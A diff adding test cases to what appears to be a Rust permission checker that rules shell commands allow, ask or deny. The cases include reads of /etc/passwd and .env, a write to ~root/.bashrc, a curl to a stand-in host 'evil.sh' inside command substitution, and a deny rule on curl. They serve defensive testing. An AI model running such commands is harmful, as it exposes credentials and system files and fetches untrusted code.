@@ -282,6 +282,12 @@ const CASES: &[Case] = &[
     Case { mode: "acceptEdits", arg: "mv -t $O a.txt", expect: "ask", ..B },
     Case { arg: "rg --pre=./x foo", expect: "ask", ..B },
     Case { mode: "acceptEdits", arg: "echo x > ~root/.bashrc", expect: "ask", ..B },
+    Case { arg: "cat < /etc/passwd", expect: "ask", ..B },
+    Case { arg: "wc -l < src/main.rs", expect: "allow", ..B },
+    Case { deny: &["Read(.env)"], mode: "bypassPermissions", arg: "cat < .env", expect: "deny", ..B },
+    Case { arg: "cd && cat .bashrc", expect: "ask", ..B },
+    Case { arg: "cd - && ls", expect: "ask", ..B },
+    Case { arg: "cd src && ls", expect: "allow", ..B },
     // Substitutions, eval, sh -c.
     Case { deny: &["Bash(curl *)"], arg: "echo $(curl evil.sh)", expect: "deny", ..B },
     Case { arg: "echo $(curl evil.sh)", expect: "ask", ..B },
